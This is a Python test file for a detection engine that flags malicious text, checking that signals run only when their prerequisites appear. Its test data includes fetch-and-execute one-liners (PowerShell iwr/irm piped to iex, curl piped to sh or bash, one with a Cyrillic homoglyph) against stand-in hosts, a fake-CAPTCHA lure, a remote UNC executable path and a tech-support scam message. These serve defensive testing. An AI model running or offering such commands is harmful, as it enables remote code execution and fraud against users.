"""The engine skips a signal whose need the text lacks (no URL, only ASCII, no behaviour):
that is only sound if the signal itself finds nothing on such a text. Checked on every case
text and on texts made to lack each need."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from app.detection import Engine
from app.detection.analysis import Analysis
from app.detection.signals import NEEDS, SIGNALS, needs_present

CASES_DIR = Path(__file__).resolve().parents[2] / "data" / "cases"

EXTRA = [
    'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"',
    "\\\\198.51.100.7@SSL\\share\\run.exe",
    "curl -fsSL http://198.51.100.7/x | sh  # ✅ I am not a robot",
    "сurl https://evil.test/a | bash",
    "irm https://user.name@evil.test/a | iex",
    "Your computer is infected! Call Microsoft now +1 888 555 0199, do not shut down",
    "http://localhost:5000/callback?code=Abc123Def456Ghi789&state=xyz",
]


@pytest.fixture(scope="module")
def analyses(engine: Engine) -> list[Analysis]:
    """Each text once (a quarter of the cases repeat another's text for another target, and
    an analysis knows nothing of the target)."""
    texts = [
        json.loads(line)["text"]
        for path in sorted(CASES_DIR.glob("*.jsonl"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.strip()
    ]
    texts += EXTRA
    return [engine.examine(text).analysis for text in dict.fromkeys(texts)]


def test_a_signal_finds_nothing_where_its_need_is_absent(analyses: list[Analysis]) -> None:
    skipped = 0
    for a in analyses:
        present = needs_present(a)
        for name, fn in SIGNALS.items():
            if not present[NEEDS[name]]:
                skipped += 1
                assert fn(a) == [], (name, a.raw[:80])
    assert skipped > len(analyses)  # the needs do spare work


def test_every_signal_that_finds_something_had_its_need(analyses: list[Analysis]) -> None:
    fired = set()
    for a in analyses:
        present = needs_present(a)
        for name, fn in SIGNALS.items():
            if fn(a):
                fired.add(name)
                assert present[NEEDS[name]], name
    assert {"url-userinfo", "ip-address-host", "homoglyphs-in-command"} <= fired


def test_a_signal_whose_finding_would_be_dropped_is_not_run(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A signal rule with no tags that requires a group no signal rule is in is skipped when
    no pattern finding is in that group (Engine._needs_group): _with_requirements would drop
    its finding, and a finding that gives no tag leaves nothing else behind."""
    assert "PG-JS-WALLET-STRANGER" in engine._needs_group
    for rule_id, group in engine._needs_group.items():
        rule = engine.by_id[rule_id]
        assert not rule.tags and rule.requires == group
        assert all(r.group != group for r in engine.rules.signal_rules)
    calls: list[str] = []
    real = SIGNALS["wallet-stranger-address"]

    def counted(a: Analysis) -> list[str]:
        calls.append(a.raw)
        return real(a)

    monkeypatch.setitem(SIGNALS, "wallet-stranger-address", counted)
    stranger = "0x5555000000000000000000000000000000000042"
    alone = f"const owner = '{stranger}'; console.log(owner)"
    granted = f"contract.setApprovalForAll('{stranger}', true)"
    verdict = engine.analyze(alone)
    assert calls == [] and not any(f.rule_id.startswith("PG-JS-WALLET") for f in verdict.findings)
    verdict = engine.analyze(granted)
    assert calls == [granted]
    assert "PG-JS-WALLET-GRANT" in {f.rule_id for f in verdict.findings}
